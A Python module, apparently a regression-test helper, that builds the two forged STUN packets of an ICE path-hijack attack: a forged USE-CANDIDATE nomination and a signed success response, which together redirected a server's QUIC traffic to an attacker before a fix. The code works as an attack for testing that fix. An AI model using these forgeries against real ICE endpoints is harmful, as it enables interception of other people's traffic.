"""The two-packet path hijack of issue 18 item 1, as an attacker who saw both pasted blocks would send it.

Packet 1: a Binding request to the server with USE-CANDIDATE, a PRIORITY above any real candidate's, and
ICE-CONTROLLING, signed with the server's ICE password (from the ANSWER). Packet 2: a success response to the
check the server triggers towards the attacker, signed with the client's password (from the OFFER). Before the
fix, these two moved the server's selected pair (and its QUIC traffic) to the attacker.
"""

from __future__ import annotations

import os

from tunnel_core import stun
from tunnel_core.types import Address

#: Higher than any priority a real candidate can have (type preference 126 << 24 is the top of host candidates).
HIJACK_PRIORITY = 0x7FFFFFFF


def forged_nomination(server_ufrag: str, client_ufrag: str, server_pwd: str) -> bytes:
    """Packet 1: the nomination, as if the controlling client sent it from the attacker's address."""
    msg = stun.StunMessage(
        method=stun.Method.BINDING,
        message_class=stun.MessageClass.REQUEST,
        transaction_id=os.urandom(12),
        attributes=(
            (stun.Attr.USERNAME, f"{server_ufrag}:{client_ufrag}"),
            (stun.Attr.PRIORITY, HIJACK_PRIORITY),
            (stun.Attr.ICE_CONTROLLING, int.from_bytes(os.urandom(8), "big")),
            (stun.Attr.USE_CANDIDATE, None),
        ),
    )
    return stun.encode(msg, integrity_key=stun.short_term_key(server_pwd), fingerprint=True)


def forged_success(request: bytes, client_pwd: str, mapped: Address) -> bytes | None:
    """Packet 2: a signed success response to a Binding request the server sent us; None for anything else."""
    try:
        msg = stun.decode(request)
    except stun.StunError:
        return None
    if msg.method != stun.Method.BINDING or msg.message_class != stun.MessageClass.REQUEST:
        return None
    reply = stun.StunMessage(
        method=stun.Method.BINDING,
        message_class=stun.MessageClass.SUCCESS,
        transaction_id=msg.transaction_id,
        attributes=((stun.Attr.XOR_MAPPED_ADDRESS, mapped),),
    )
    return stun.encode(reply, integrity_key=stun.short_term_key(client_pwd), fingerprint=True)
